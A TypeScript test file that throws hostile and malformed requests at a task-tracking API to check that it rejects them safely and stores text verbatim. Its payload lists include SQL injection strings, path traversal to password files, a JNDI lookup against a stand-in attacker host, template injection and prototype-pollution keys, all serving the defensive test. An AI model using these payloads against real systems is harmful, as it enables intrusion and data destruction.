/**
 * Fault scenario: malformed and hostile requests to every endpoint of the OpenAPI document, on
 * every field it documents: SQL and path injection strings, null bytes, prototype-pollution keys,
 * huge strings and arrays, JSON nested 10,000 deep, bodies over the limits, wrong content types,
 * invalid UTF-8, hostile path segments and query values, abused headers, hostile multipart uploads.
 *
 * Each request is held to the same rules: no 5xx; a 4xx is a problem document (a validation error
 * names each field and its reason); a refused request changes no table (counts and digests before
 * and after) and starts no workflow; an accepted one (an injection string is legitimate text in a
 * reason or a title) stores the text verbatim and it reads back exactly. Afterwards the server still
 * answers, Object.prototype is untouched, and the common invariants hold over every task touched.
 */
import { describe, expect, it } from 'vitest';
import type request from 'supertest';
import { openApiDocument } from '../../../api/openapi';
import { taskIdFor, workflowIdFor } from '../../../domain/task';
import { vnCivilDate } from '../../../domain/time';
import { countRows, tableSnapshot, untilQuiet } from '../../helpers/counts';
import { uniq } from '../../helpers/servers';
import { useApiWorld, type ApiWorld, type Fixture } from '../../helpers/api-world';
import { DAY, PDF, PNG } from '../../helpers/fixtures';
import { answerViolations, checkWorldInvariants, snapshotChanges } from '../lib/request-invariants';
import { recordScenario } from '../lib/report';
import { faultSeed, rngFor, type Rng } from '../lib/seed';

const SCENARIO = 'requests/hostile-requests';
const EVIDENCE_MAX_BYTES = 64 * 1024;

/** Text an attacker puts in any field; each is also legitimate text a reason or a title may carry. */
const INJECTIONS = [
  "'; DROP TABLE tasks;--",
  "' OR '1'='1' --",
  '1); DELETE FROM audit_events WHERE (1=1',
  "Robert'); TRUNCATE idempotency_keys;--",
  '../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fshadow',
  '..\\..\\windows\\win.ini',
  'Biên bản\u0000ẩn',
  '\u0000',
  '<script>alert("Đã bị tấn công")</script>',
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return process")()}}',
  '\u202eGiám đốc\u202c',
];
/** Values of the wrong shape or size. */
const SHAPES: unknown[] = [
  'x'.repeat(300_000),
  Array.from({ length: 100_000 }, (_, i) => `ev_${i}`),
  { $ne: null },
  ['__proto__'],
  1e308,
  -1,
  null,
  true,
  {},
  [],
  '',
];
const deepArray = (n: number) => `${'['.repeat(n)}${']'.repeat(n)}`;
const deepObject = (n: number) => `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`;

/** Path segments, already as they go on the wire. */
const SEGMENTS = [
  encodeURIComponent("'; DROP TABLE tasks;--"),
  encodeURIComponent("1' OR '1'='1"),
  '..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '%2e%2e',
  '..',
  '..%5c..%5cwindows%5cwin.ini',
  '%2F',
  'a%2Fb',
  '%00',
  'a%00b',
  '%',
  '%zz',
  '%C0%AF',
  'x'.repeat(5000),
  '-1',
  '99999999999999999999',
  '__proto__',
  'constructor',
];
const QUERY_VALUES = [...INJECTIONS.slice(0, 8), '1e400', '-1', '0', 'x'.repeat(5000), '%00', '2026-Q5', 'true', '[object Object]'];
const WRONG_TYPES = [
  'text/xml',
  'application/x-www-form-urlencoded',
  'application/octet-stream',
  'multipart/form-data; boundary=x',
  'application/json; charset=latin1',
  'application/json; charset=utf-16',
  'image/png',
];

interface Target {
  fixture?: (w: ApiWorld) => Promise<Fixture & { directiveId?: string }>;
  /** An accepted request uses the fixture up (it is replaced before the next request). */
  consumes?: boolean;
  method: 'post' | 'patch';
  path: (f: Fixture & { directiveId?: string }) => string;
  who: 'lead' | 'secretariat';
  valid: (w: ApiWorld, f: Fixture & { directiveId?: string }) => Record<string, unknown>;
  /** Where an accepted request's text reads back: a task's history or a directive (as the API answers it). */
  readBack: (w: ApiWorld, f: Fixture & { directiveId?: string }, res: request.Response) => string | null;
  /** The first field of the valid body that holds text (or a list of it): where deep nesting and bad bytes go. */
  textField: string;
  command?: string;
}

const onTask = (
  name: string,
  textField: string,
  fixture: (w: ApiWorld) => Promise<Fixture>,
  who: 'lead' | 'secretariat',
  valid: Target['valid'],
  consumes = true,
): Target => ({
  fixture,
  consumes,
  method: 'post',
  path: (f) => `/api/v1/tasks/${f.taskId}/${name}`,
  who,
  valid,
  readBack: (_w, f) => `/api/v1/tasks/${f.taskId}/history`,
  command: name,
  textField,
});

async function aDirective(w: ApiWorld, complete: boolean) {
  const res = await w
    .http()
    .post('/api/v1/directives')
    .set('authorization', w.people.secretariat.auth)
    .send({
      number: `${w.directivePrefix}-${uniq()}/KH`,
      issuedOn: '2025-11-04',
      assignedBy: 'Đồng chí Bí thư Tỉnh ủy, Trưởng Ban Chỉ đạo',
      decidedBy: w.units.office,
      items: [
        {
          ref: '2.4',
          title: 'Xây dựng Trung tâm an ninh mạng cấp tỉnh',
          leadUnit: w.units.lead,
          ...(complete
            ? {
                responsibleOfficial: 'Giám đốc Công an tỉnh',
                deadline: { kind: 'date', dueAt: new Date(Date.now() + 90 * DAY).toISOString() },
                expectedResult: 'Trung tâm đi vào hoạt động',
              }
            : {}),
        },
      ],
    });
  if (res.status !== 201) throw new Error(`directive import answered ${res.status}: ${res.text}`);
  // No task until an item is launched: the launch's answer names it.
  return { taskId: '', directiveId: res.body.id as string };
}

/** Every JSON body of the API: a fixture it needs and a valid body, which the faults then spoil. */
const TARGETS: Record<string, Target> = {
  launchTask: {
    method: 'post',
    path: () => '/api/v1/tasks',
    who: 'secretariat',
    valid: (w) => w.launchBody(),
    readBack: (_w, _f, res) => `/api/v1/tasks/${res.body.id}/history`,
    textField: 'title',
  },
  acknowledge: onTask(
    'acknowledge',
    'note',
    (w) => w.fixtures.launched(),
    'lead',
    (w) => ({ note: w.marker('Đã tiếp nhận') }),
  ),
  reportProgress: onTask(
    'progress',
    'text',
    (w) => w.fixtures.acknowledged(),
    'lead',
    (w) => ({ text: w.marker('Đã ký hợp đồng'), percent: 60 }),
    false,
  ),
  recordMeasurement: onTask(
    'measurements',
    'note',
    (w) => w.fixtures.withEvidence(),
    'lead',
    (w, f) => ({ targetId: 'phu-song-5g', value: 58.4, measuredOn: '2025-11-30', evidenceIds: [f.evidenceId], note: w.marker('Số liệu') }),
    false,
  ),
  submit: onTask(
    'submit',
    'summary',
    (w) => w.fixtures.withEvidence(),
    'lead',
    (w, f) => ({ summary: w.marker('Đề nghị hoàn thành'), evidenceIds: [f.evidenceId] }),
  ),
  approve: onTask(
    'approve',
    'note',
    (w) => w.fixtures.submitted(),
    'secretariat',
    (w) => ({ note: w.marker('Đạt') }),
  ),
  return: onTask(
    'return',
    'reason',
    (w) => w.fixtures.submitted(),
    'secretariat',
    (w) => ({ reason: w.marker('Bổ sung biên bản') }),
  ),
  requestExtension: onTask(
    'extension-requests',
    'reason',
    (w) => w.fixtures.launched(),
    'lead',
    (w) => ({ requestedDueAt: new Date(Date.now() + 200 * DAY).toISOString(), reason: w.marker('Chờ kinh phí') }),
  ),
  decideExtension: onTask(
    'extension-decision',
    'reason',
    (w) => w.fixtures.extensionPending(),
    'secretariat',
    (w) => ({ approve: false, reason: w.marker('Không đủ căn cứ') }),
  ),
  reassign: onTask(
    'reassign',
    'reason',
    (w) => w.fixtures.launched(),
    'secretariat',
    (w) => ({ newLeadUnit: w.units.reassignee, responsibleOfficial: 'Giám đốc Công an tỉnh', reason: w.marker('Điều chỉnh chức năng') }),
  ),
  cancel: onTask(
    'cancel',
    'reason',
    (w) => w.fixtures.launched(),
    'secretariat',
    (w) => ({ reason: w.marker('Nội dung đã được thay thế') }),
  ),
  reopenTask: onTask(
    'reopen',
    'reason',
    (w) => w.fixtures.cancelled(),
    'secretariat',
    (w) => ({ reason: w.marker('Kết quả kiểm tra chưa đạt'), newDueAt: new Date(Date.now() + 60 * DAY).toISOString() }),
  ),
  submitReport: onTask(
    'reports',
    'summary',
    (w) => w.fixtures.recurring(),
    'lead',
    (w, f) => ({ periodKey: f.periodKey, summary: w.marker('Báo cáo quý') }),
  ),
  importDirective: {
    method: 'post',
    path: () => '/api/v1/directives',
    who: 'secretariat',
    valid: (w) => ({
      number: `${w.directivePrefix}-${uniq()}/TB`,
      issuedOn: '2025-11-04',
      title: 'Thông báo kết luận',
      items: [{ ref: '1', title: 'Rà soát hạ tầng mạng viễn thông' }],
    }),
    readBack: (_w, _f, res) => `/api/v1/directives/${res.body.id}`,
    textField: 'title',
  },
  registerDirectiveFromText: {
    method: 'post',
    path: () => '/api/v1/directives/from-text',
    who: 'secretariat',
    valid: (w) => ({
      text: w.marker('THÔNG BÁO\n1. Giao Công an tỉnh xây dựng trung tâm an ninh mạng.'),
      number: `${w.directivePrefix}-${uniq()}/TB`,
      issuedOn: '2025-11-04',
    }),
    readBack: (_w, _f, res) => `/api/v1/directives/${res.body.directive.id}`,
    textField: 'text',
  },
  patchDirectiveItem: {
    fixture: (w) => aDirective(w, false),
    method: 'patch',
    path: (f) => `/api/v1/directives/${f.directiveId}/items/2.4`,
    who: 'secretariat',
    valid: () => ({ responsibleOfficial: 'Giám đốc Công an tỉnh' }),
    readBack: (_w, f) => `/api/v1/directives/${f.directiveId}`,
    textField: 'responsibleOfficial',
  },
  discardDirectiveItem: {
    fixture: (w) => aDirective(w, false),
    consumes: true,
    method: 'post',
    path: (f) => `/api/v1/directives/${f.directiveId}/items/2.4/discard`,
    who: 'secretariat',
    valid: () => ({ reason: 'Mục không giao việc cho ai' }),
    readBack: (_w, f) => `/api/v1/directives/${f.directiveId}`,
    textField: 'reason',
  },
  launchDirectiveItems: {
    fixture: (w) => aDirective(w, true),
    consumes: true,
    method: 'post',
    path: (f) => `/api/v1/directives/${f.directiveId}/launch`,
    who: 'secretariat',
    valid: () => ({ refs: ['2.4'] }),
    readBack: () => null,
    textField: 'refs',
  },
};

/** The string values anywhere in a JSON value. */
function strings(value: unknown, found: string[] = []): string[] {
  if (typeof value === 'string') found.push(value);
  else if (value !== null && typeof value === 'object') for (const v of Object.values(value)) strings(v, found);
  return found;
}

describe('fault scenario: malformed and hostile requests to every endpoint and field', () => {
  const w = useApiWorld({ evidenceMaxBytes: EVIDENCE_MAX_BYTES });
  const rng: Rng = rngFor(SCENARIO);
  const sample = <T>(items: readonly T[], n: number) => [...items].sort(() => rng.next() - 0.5).slice(0, n);

  type Schema = { $ref?: string; properties?: Record<string, unknown> };
  const doc = openApiDocument() as unknown as {
    paths: Record<
      string,
      Record<
        string,
        { operationId: string; parameters?: { in: string; name: string }[]; requestBody?: { content: Record<string, { schema: Schema }> } }
      >
    >;
    components: { schemas: Record<string, Schema> };
  };
  const operations = Object.entries(doc.paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, op]) => ({ path, method, ...op })),
  );
  /** The top-level fields of an operation's JSON body, as the document gives them. */
  const bodyFields = (op: (typeof operations)[number]): string[] => {
    const schema = op.requestBody?.content['application/json']?.schema;
    const resolved = schema?.$ref ? doc.components.schemas[schema.$ref.split('/').pop()!] : schema;
    return Object.keys(resolved?.properties ?? {});
  };

  const violations: string[] = [];
  const statuses: Record<string, Record<number, number>> = {};
  let faults = 0;
  let acknowledged = 0;
  const fixtures = new Map<string, Fixture & { directiveId?: string }>();
  const fixtureOf = async (op: string) => {
    const t = TARGETS[op];
    if (!t.fixture) return { taskId: '' };
    if (!fixtures.has(op)) {
      const f = await t.fixture(w);
      if (f.taskId) w.tasks.add(f.taskId);
      fixtures.set(op, f);
    }
    return fixtures.get(op)!;
  };

  /** Waits until no audit row has been written for a moment: an accepted launch records after its answer. */
  const quiet = () => untilQuiet(() => countRows(w.db, 'audit_events'), 3);

  /**
   * Sends one hostile request and holds it to the rules. `expect` names the text fields whose
   * accepted value must read back verbatim; `op` ties it to a target for fixtures and read-back.
   */
  async function hostile(
    category: string,
    what: string,
    send: () => request.Test,
    o: {
      op?: string;
      f?: Fixture & { directiveId?: string };
      body?: Record<string, unknown>;
      verbatim?: string[];
      validKey?: boolean;
      launches?: string;
    } = {},
  ): Promise<request.Response> {
    const before = await tableSnapshot(w.db);
    const res = await send();
    faults++;
    (statuses[category] ??= {})[res.status] = (statuses[category][res.status] ?? 0) + 1;
    const found = answerViolations(`${category}: ${what}`, res);
    if (({} as Record<string, unknown>).polluted !== undefined || ({} as Record<string, unknown>).isAdmin !== undefined)
      found.push(`${category}: ${what}: Object.prototype was polluted`);
    if (res.status >= 400) {
      const changed = snapshotChanges(before, await tableSnapshot(w.db), o.validKey ? ['idempotency_keys'] : []);
      if (changed.length) found.push(`${category}: ${what} → ${res.status}, yet it wrote: ${changed.join('; ')}`);
      if (o.launches) {
        const started = await w.env.client.workflow
          .getHandle(workflowIdFor(o.launches))
          .describe()
          .then(
            () => true,
            () => false,
          );
        if (started) found.push(`${category}: ${what} → ${res.status}, yet workflow ${workflowIdFor(o.launches)} was started`);
      }
    } else if (res.status < 300) {
      acknowledged++;
      const t = o.op ? TARGETS[o.op] : undefined;
      if (t && o.f) {
        if (t.command && o.body) w.acknowledge(o.f.taskId, t.command, o.body, res);
        if (o.op === 'launchTask') {
          w.tasks.add(res.body.id);
          w.ledger.push({ taskId: res.body.id, kind: 'launched', match: {}, what: `launch ${res.body.id} (${what})` });
        }
        if (o.op === 'launchDirectiveItems') for (const r of res.body.results ?? []) if (r.taskId) w.tasks.add(r.taskId);
        const launched =
          o.op === 'launchTask'
            ? [res.body.id as string]
            : o.op === 'launchDirectiveItems'
              ? ((res.body.results ?? []) as { taskId?: string }[]).flatMap((r) => (r.taskId ? [r.taskId] : []))
              : [];
        for (const taskId of launched) {
          await w.until(`the first row of ${taskId} (${what})`, () =>
            w.db.selectFrom('audit_events').select('seq').where('task_id', '=', taskId).where('kind', '=', 'launched').executeTakeFirst(),
          );
        }
        if (launched.length) await quiet();
        const path = t.readBack(w, o.f, res);
        if (path && o.verbatim?.length) {
          const read = await w.http().get(path).set('authorization', w.people.secretariat.auth);
          // The directive's view leaves out some stored fields (its source text): those are read from the row.
          const row = path.startsWith('/api/v1/directives/')
            ? await w.db.selectFrom('directives').selectAll().where('id', '=', path.split('/').pop()!).executeTakeFirst()
            : undefined;
          const stored = new Set([...strings(read.body), ...strings(row ?? {})]);
          for (const text of o.verbatim)
            if (!stored.has(text.trim()))
              found.push(
                `${category}: ${what} was accepted (${res.status}) but ${JSON.stringify(text.slice(0, 80))} does not read back verbatim from ${path} (${read.status})`,
              );
        }
        if (t.consumes) fixtures.delete(o.op!);
      }
    }
    violations.push(...found);
    return res;
  }

  const authOf = (who: 'lead' | 'secretariat') => (who === 'lead' ? w.people.lead.auth : w.people.secretariat.auth);
  const bodyRequest = (op: string, f: Fixture & { directiveId?: string }) => {
    const t = TARGETS[op];
    return (t.method === 'post' ? w.http().post(t.path(f)) : w.http().patch(t.path(f))).set('authorization', authOf(t.who));
  };

  it('covers every operation with a JSON body, and every field the document gives it', () => {
    const withJson = operations.filter((op) => op.requestBody?.content['application/json']).map((op) => op.operationId);
    expect(Object.keys(TARGETS).sort()).toEqual(withJson.sort());
    for (const op of operations.filter((o) => TARGETS[o.operationId])) expect(bodyFields(op).length, op.operationId).toBeGreaterThan(0);
  });

  it('SQL and path injection, null bytes, wrong shapes and sizes in every body field', async () => {
    for (const op of operations.filter((o) => TARGETS[o.operationId])) {
      const fields = bodyFields(op);
      for (const field of fields) {
        for (const value of [...sample(INJECTIONS, 2), ...sample(SHAPES, 2)]) {
          const f = await fixtureOf(op.operationId);
          const body = { ...TARGETS[op.operationId].valid(w, f), [field]: value };
          const launches =
            op.operationId === 'launchTask' && typeof body.directiveNumber === 'string' && typeof body.ref === 'string'
              ? taskIdFor(
                  {
                    directiveNumber: body.directiveNumber,
                    directiveYear: typeof body.directiveYear === 'number' ? body.directiveYear : vnCivilDate(new Date()).year,
                    directiveIssuer: typeof body.directiveIssuer === 'string' ? body.directiveIssuer : null,
                  },
                  body.ref,
                )
              : undefined;
          await hostile(
            'body field',
            `${op.operationId}.${field} = ${JSON.stringify(value)?.slice(0, 60)}`,
            () => bodyRequest(op.operationId, f).send(body),
            { op: op.operationId, f, body, verbatim: typeof value === 'string' ? [value] : [], launches },
          );
        }
      }
    }
  });

  it('prototype-pollution keys, JSON nested 10,000 deep, bodies over the limit, wrong content types, invalid UTF-8', async () => {
    for (const op of Object.keys(TARGETS)) {
      const field = TARGETS[op].textField;
      const raws = (inner: string, valid: string): [string, string | Buffer, string][] => [
        ['__proto__ key', `{${inner},"__proto__":{"polluted":true,"isAdmin":true}}`, 'application/json'],
        ['constructor.prototype key', `{${inner},"constructor":{"prototype":{"polluted":true}}}`, 'application/json'],
        // A repeated key: the last one is the one parsed.
        [`10,000-deep array in ${field}`, `{${inner},"${field}":${deepArray(10_000)}}`, 'application/json'],
        ['10,000-deep object', deepObject(10_000), 'application/json'],
        ['over 1 MB of JSON', `{${inner},"padding":"${'x'.repeat(1024 * 1024 + 16)}"}`, 'application/json'],
        // The body's bytes are fine; the declared type is not what the endpoint takes.
        ...sample(WRONG_TYPES, 3).map((type): [string, string, string] => [`declared ${type}`, valid, type]),
        // A text field carrying bytes that are not UTF-8 (a latin-1 "é", a lone continuation byte, a truncated sequence).
        [
          `invalid UTF-8 in ${field}`,
          Buffer.concat([
            Buffer.from(`{${inner},"${field}":${field === 'refs' ? '["' : '"'}Ti`),
            Buffer.from([0xe9, 0x6e, 0x20, 0x80, 0xc3]),
            Buffer.from(field === 'refs' ? '"]}' : '"}'),
          ]),
          'application/json',
        ],
      ];
      for (let i = 0; i < raws('', '').length; i++) {
        // A fresh valid body each time, on the fixture of the moment (an accepted request uses some up).
        const f = await fixtureOf(op);
        const body = TARGETS[op].valid(w, f);
        const valid = JSON.stringify(body);
        const [what, raw, type] = raws(valid.slice(1, -1), valid)[i];
        // What the server parses, for the ledger: the valid body's marker survives a prototype key, not a deep body.
        const parsed = typeof raw === 'string' && raw.length < 100_000 ? (JSON.parse(raw) as Record<string, unknown>) : {};
        // Bytes go out as they are: superagent would serialize a Buffer sent as JSON into {"type":"Buffer",...}.
        const res = await hostile(
          'raw body',
          `${op}: ${what}`,
          () =>
            bodyRequest(op, f)
              .set('content-type', type)
              .serialize((x: unknown) => x as string)
              .send(raw),
          { op, f, body: parsed },
        );
        if (what === 'over 1 MB of JSON' && (res.status !== 413 || res.body.type !== 'payload-too-large'))
          violations.push(`${op}: over 1 MB of JSON answered ${res.status} (413 payload-too-large expected)`);
        if (what.startsWith('invalid UTF-8') && res.status < 300)
          violations.push(`${op}: a body that is not UTF-8 was accepted (${res.status}); its text cannot read back as sent`);
        if (what.startsWith('10,000-deep array') && res.status < 400) violations.push(`${op}: ${what} was accepted (${res.status})`);
        // Not JSON at all: 415; JSON in a charset it is not written in: refused too.
        if (what.startsWith('declared') && !type.startsWith('application/json') && res.status !== 415)
          violations.push(`${op}: a body declared ${type} answered ${res.status} (415 expected)`);
        if (what.startsWith('declared') && res.status < 400) violations.push(`${op}: a body declared ${type} was accepted (${res.status})`);
      }
    }
    const yaml = `number: "${w.directivePrefix}-Y"\nsourceText: "${'y'.repeat(2 * 1024 * 1024 + 10)}"\n`;
    const bigYaml = await hostile('raw body', 'importDirective: YAML over 2 MB', () =>
      w
        .http()
        .post('/api/v1/directives')
        .set('authorization', w.people.secretariat.auth)
        .set('content-type', 'application/yaml')
        .send(yaml),
    );
    if (bigYaml.status !== 413) violations.push(`YAML over 2 MB answered ${bigYaml.status} (413 expected)`);
    for (const text of ['Số: 1-TB/X\n'.repeat(250_000), ...sample(INJECTIONS, 4)]) {
      await hostile('raw body', `extractDirective: ${JSON.stringify(text.slice(0, 40))} (${text.length} chars)`, () =>
        w
          .http()
          .post('/api/v1/directives/extract')
          .set('authorization', w.people.secretariat.auth)
          .set('content-type', 'text/plain; charset=utf-8')
          .send(text),
      );
    }
    const notUtf8 = await hostile('raw body', 'extractDirective: invalid UTF-8', () =>
      w
        .http()
        .post('/api/v1/directives/extract')
        .set('authorization', w.people.secretariat.auth)
        .set('content-type', 'text/plain; charset=utf-8')
        .serialize((x: unknown) => x as string)
        .send(
          Buffer.concat([Buffer.from('Số: 77-TB/X\nTHÔNG BÁO\n1. Giao Công an tỉnh '), Buffer.from([0xff, 0xfe, 0xc3]), Buffer.from('\n')]),
        ),
    );
    if (notUtf8.status !== 400) violations.push(`extractDirective: a text that is not UTF-8 answered ${notUtf8.status} (400 expected)`);
  });

  it('hostile evidence uploads: traversal and null bytes in file names, oversized files and fields, mismatched types, extra parts', async () => {
    const f = await fixtureOf('reportProgress');
    const upload = () => w.http().post(`/api/v1/tasks/${f.taskId}/evidence`).set('authorization', w.people.lead.auth);
    const cases: [string, () => request.Test, string[]][] = [
      [
        'file name ../../etc/passwd.pdf',
        () => upload().attach('file', PDF, { filename: '../../etc/passwd.pdf', contentType: 'application/pdf' }),
        [],
      ],
      [
        'file name ..\\..\\boot.ini.pdf',
        () => upload().attach('file', PDF, { filename: '..\\..\\boot.ini.pdf', contentType: 'application/pdf' }),
        [],
      ],
      [
        'file name with a null byte',
        () => upload().attach('file', PDF, { filename: 'bien-ban\u0000.pdf.exe', contentType: 'application/pdf' }),
        [],
      ],
      ...sample(INJECTIONS, 5).map((d): [string, () => request.Test, string[]] => [
        `description ${JSON.stringify(d.slice(0, 40))}`,
        () => upload().field('description', d).attach('file', PDF, { filename: 'bien-ban.pdf', contentType: 'application/pdf' }),
        [d],
      ]),
      [
        'description of 20,000 characters',
        () =>
          upload()
            .field('description', 'x'.repeat(20_000))
            .attach('file', PDF, { filename: 'bien-ban.pdf', contentType: 'application/pdf' }),
        [],
      ],
      [
        'a file over the limit',
        () =>
          upload().attach('file', Buffer.concat([PDF, Buffer.alloc(EVIDENCE_MAX_BYTES)]), {
            filename: 'lon.pdf',
            contentType: 'application/pdf',
          }),
        [],
      ],
      ['a PNG declared as PDF', () => upload().attach('file', PNG, { filename: 'anh.pdf', contentType: 'application/pdf' }), []],
      ['the file in another field', () => upload().attach('files', PDF, { filename: 'bien-ban.pdf', contentType: 'application/pdf' }), []],
      [
        'two files',
        () =>
          upload()
            .attach('file', PDF, { filename: 'a.pdf', contentType: 'application/pdf' })
            .attach('file', PDF, { filename: 'b.pdf', contentType: 'application/pdf' }),
        [],
      ],
      [
        'a broken multipart body',
        () =>
          upload()
            .set('content-type', 'multipart/form-data; boundary=zzz')
            .send('--zzz\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n%PDF-1.4'),
        [],
      ],
      ['JSON instead of a file', () => upload().send({ file: PDF.toString('base64') }), []],
    ];
    for (const [what, send, verbatim] of cases) {
      const res = await hostile('evidence upload', what, send);
      if (res.status === 201) {
        w.acknowledge(f.taskId, 'evidence', { evidenceId: res.body.evidence.id }, res);
        const row = await w.db
          .selectFrom('evidence')
          .select(['file_name', 'description'])
          .where('id', '=', res.body.evidence.id)
          .executeTakeFirstOrThrow();
        if (/[\\/\u0000]/.test(row.file_name) || row.file_name.includes('..' + '/'))
          violations.push(`evidence upload: ${what}: stored file name ${JSON.stringify(row.file_name)} keeps a path or a null byte`);
        for (const text of verbatim)
          if (row.description !== text.trim())
            violations.push(`evidence upload: ${what}: description stored as ${JSON.stringify(row.description.slice(0, 80))}`);
      }
    }
  });

  it('hostile segments in every path parameter of every route', async () => {
    const taskFixture = await fixtureOf('recordMeasurement');
    const directive = await fixtureOf('patchDirectiveItem');
    const notification = await w.fixtures.notification();
    w.tasks.add(notification.taskId);
    const real: Record<string, string> = { id: taskFixture.taskId, evidenceId: taskFixture.evidenceId!, ref: '2.4' };
    for (const op of operations.filter((o) => o.path.includes('{') && o.path.startsWith('/api/v1/'))) {
      const params = [...op.path.matchAll(/\{(\w+)\}/g)].map((m) => m[1]);
      const realOf = (name: string) =>
        op.path.startsWith('/api/v1/directives') && name === 'id'
          ? directive.directiveId!
          : op.path.startsWith('/api/v1/inbox')
            ? notification.notificationId
            : real[name];
      for (const param of params) {
        for (const segment of sample(SEGMENTS, 4)) {
          const path = op.path.replace(/\{(\w+)\}/g, (_, name: string) => (name === param ? segment : encodeURIComponent(realOf(name))));
          const auth = op.path.startsWith('/api/v1/inbox') ? w.people.lead.auth : w.people.secretariat.auth;
          const res = await hostile('path parameter', `${op.method.toUpperCase()} ${op.path} {${param}} = ${segment.slice(0, 40)}`, () => {
            const req = op.method === 'get' ? w.http().get(path) : op.method === 'patch' ? w.http().patch(path) : w.http().post(path);
            return req.set('authorization', auth).send(op.method === 'get' ? undefined : {});
          });
          if (res.status < 300 && op.method !== 'get')
            violations.push(`${op.operationId}: a hostile {${param}} ${segment.slice(0, 40)} was accepted (${res.status})`);
        }
      }
    }
  });

  it('hostile values, repeated and prototype keys in every query parameter', async () => {
    for (const op of operations.filter((o) => o.method === 'get' && o.parameters?.some((p) => p.in === 'query'))) {
      for (const param of op.parameters!.filter((p) => p.in === 'query').map((p) => p.name)) {
        for (const value of sample(QUERY_VALUES, 2)) {
          await hostile('query parameter', `GET ${op.path}?${param}=${value.slice(0, 40)}`, () =>
            w
              .http()
              .get(`${op.path}?${param}=${encodeURIComponent(value)}`)
              .set('authorization', w.people.secretariat.auth),
          );
        }
        await hostile('query parameter', `GET ${op.path}?${param} repeated`, () =>
          w.http().get(`${op.path}?${param}=1&${param}=2&${param}=x`).set('authorization', w.people.secretariat.auth),
        );
      }
      for (const qs of ['__proto__[polluted]=1', 'constructor[prototype][polluted]=1', '__proto__=1&page=1', 'page[$gt]=1']) {
        await hostile('query parameter', `GET ${op.path}?${qs}`, () =>
          w.http().get(`${op.path}?${qs}`).set('authorization', w.people.lead.auth),
        );
      }
    }
  });

  it('abused headers: huge or forged Authorization, Idempotency-Key in bad formats, oversized request ids, bogus encodings', async () => {
    const f = await fixtureOf('reportProgress');
    const progress = () => w.http().post(`/api/v1/tasks/${f.taskId}/progress`);
    const body = () => ({ text: w.marker('Tiến độ'), percent: 10 });
    const authorizations = [
      'Bearer ' + 'A'.repeat(12_000),
      'Bearer ' + 'A'.repeat(40_000),
      "Bearer ' OR '1'='1",
      'Bearer dtk_../../etc/passwd',
      'Basic YWRtaW46YWRtaW4=',
      'Bearer',
      '',
      'bearer  dtk_x y z',
      `${w.people.lead.auth}, ${w.people.secretariat.auth}`,
    ];
    for (const auth of authorizations)
      await hostile('header', `Authorization: ${auth.slice(0, 40)} (${auth.length} chars)`, () =>
        progress().set('authorization', auth).send(body()),
      );
    // A UTF-8 key goes on the wire as its bytes (Node sends header values as latin-1).
    const badKeys = [
      '',
      ' ',
      'x'.repeat(201),
      'k'.repeat(9000),
      Buffer.from('khóa-việc', 'utf8').toString('latin1'),
      'khóa',
      'has space',
      'tab\there',
      '\u00ff\u00fe',
    ];
    for (const key of badKeys) {
      const res = await hostile('header', `Idempotency-Key: ${JSON.stringify(key.slice(0, 30))} (${key.length} chars)`, () =>
        progress().set('authorization', w.people.lead.auth).set('Idempotency-Key', key).send(body()),
      );
      if (res.status !== 400 || res.body.errors?.[0]?.path !== 'Idempotency-Key')
        violations.push(`Idempotency-Key ${JSON.stringify(key.slice(0, 30))} answered ${res.status} (400 naming Idempotency-Key expected)`);
    }
    // A key that is valid ASCII, whatever it looks like, is only a key: the command runs once and its text reads back.
    const sqlKey = "'; DROP TABLE idempotency_keys;--";
    const sent = body();
    await hostile(
      'header',
      'Idempotency-Key that is SQL',
      () => progress().set('authorization', w.people.lead.auth).set('Idempotency-Key', `${sqlKey}${uniq()}`).send(sent),
      { op: 'reportProgress', f, body: sent, verbatim: [sent.text as string], validKey: true },
    );
    for (const [name, value] of [
      ['X-Request-Id', 'r'.repeat(10_000)],
      ['X-Request-Id', "'; DROP TABLE tasks;--"],
      ['Content-Encoding', 'x-garbage'],
      ['Content-Encoding', 'gzip'],
      ['Accept', 'application/xml'],
      ['Accept-Charset', 'utf-7'],
    ] as const) {
      const sentWith = body();
      await hostile(
        'header',
        `${name}: ${value.slice(0, 30)}`,
        () =>
          progress()
            .set('authorization', w.people.lead.auth)
            .set('content-type', 'application/json')
            .set(name, value)
            .send(JSON.stringify(sentWith)),
        { op: 'reportProgress', f, body: sentWith },
      );
    }
  });

  it('still answers, and the invariants hold over every task the hostile requests touched', async () => {
    await w.http().get('/healthz').expect(200);
    const f = await fixtureOf('reportProgress');
    await w.command(f.taskId, 'progress', { text: w.marker('Vẫn hoạt động'), percent: 90 });
    // Every workflow this file started has its read model row: none was started by a refused request and left without a record.
    const started: string[] = [];
    for await (const wf of w.env.client.workflow.list({ query: `TaskQueue = '${w.taskQueue}'` })) started.push(wf.workflowId);
    const recorded = new Set(
      (
        await w.db
          .selectFrom('tasks')
          .select('workflow_id')
          .where('workflow_id', 'in', started.length ? started : ['-'])
          .execute()
      ).map((r) => r.workflow_id),
    );
    for (const id of started) if (!recorded.has(id)) violations.push(`workflow ${id} was started but its task has no record`);
    if (started.length < w.tasks.size)
      violations.push(`${started.length} workflows listed on this file's queue, fewer than the ${w.tasks.size} tasks it touched`);
    violations.push(...(await checkWorldInvariants(w)));
    const table = Object.entries(statuses).map(
      ([c, t]) =>
        `${c}: ${Object.entries(t)
          .map(([s, n]) => `${s}×${n}`)
          .join(' ')}`,
    );
    recordScenario({
      scenario: SCENARIO,
      seed: faultSeed(),
      runs: 1,
      faultsInjected: faults,
      operationsAcknowledged: acknowledged + w.ledger.length,
      invariantViolations: violations.length,
      notes: [...table, ...violations.slice(0, 30)],
    });
    expect(violations).toEqual([]);
  });
});
